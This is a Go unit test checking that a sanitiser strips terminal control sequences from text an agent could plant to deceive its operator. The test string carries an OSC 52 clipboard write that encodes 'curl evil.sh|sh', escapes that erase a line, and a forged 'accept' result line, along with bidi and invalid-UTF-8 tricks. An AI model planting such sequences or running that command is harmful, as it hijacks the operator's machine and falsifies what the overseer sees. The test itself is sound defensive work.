package anchor

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// attackText is what an agent plants to reach the operator's terminal: an
// OSC 52 clipboard write of a shell command, cursor up and erase line, and
// a forged accept line; then C1 CSI, a bidi override and invalid UTF-8.
const attackText = "fine\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[1A\x1b[2K\r\n  7 *  accept      train 0.100 -> 0.900" +
	"\u009b2J\u202eevil\u2066\xff\u2028end"

func TestPrintableLeavesNoControl(t *testing.T) {
	got := Printable(attackText, 1000)
	for _, c := range got {
		if c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || c == '\u202e' || c == '\u2066' || c == '\u2028' {
			t.Errorf("Printable kept %U: %q", c, got)
		}
	}
	if !utf8.ValidString(got) || strings.Contains(got, "\n") || !strings.Contains(got, "accept      train") {
		t.Errorf("Printable(%q) = %q: want one valid line that keeps the text", attackText, got)
	}
	if got := Printable(strings.Repeat("é", 50), 10); got != strings.Repeat("é", 10)+"…" {
		t.Errorf("capped at 10 runes: %q", got)
	}
}
